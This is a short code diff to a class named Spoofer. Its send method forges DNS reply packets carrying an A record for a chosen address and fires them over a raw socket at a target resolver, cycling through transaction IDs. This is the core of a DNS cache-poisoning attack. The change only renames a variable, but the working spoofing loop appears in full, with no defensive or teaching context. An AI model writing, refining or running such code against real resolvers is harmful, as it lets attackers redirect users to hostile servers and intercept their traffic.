@@ -38,13 +38,13 @@ class Spoofer:
     def send(self, port: int, question: bytes, address: str, ids: Iterable[int], is_over: Callable[[], bool]) -> int:
         """Send a reply with one A record for each id until stopped; return the number of replies sent."""
         record = b"\xc0\x0c\0\1\0\1\0\1\x51\x80\0\4" + socket.inet_aton(address)
-        rest = b"\x81\x80\0\1\0\1\0\0\0\0" + question + record
-        head = self._head(port, 2 + len(rest))
+        tail = b"\x81\x80\0\1\0\1\0\0\0\0" + question + record
+        head = self._head(port, 2 + len(tail))
         sent = 0
         for identifier in ids:
             if is_over():
                 break
-            self._socket.sendto(head + identifier.to_bytes(2) + rest, (self._target, 0))
+            self._socket.sendto(head + identifier.to_bytes(2) + tail, (self._target, 0))
             sent += 1
         return sent
 
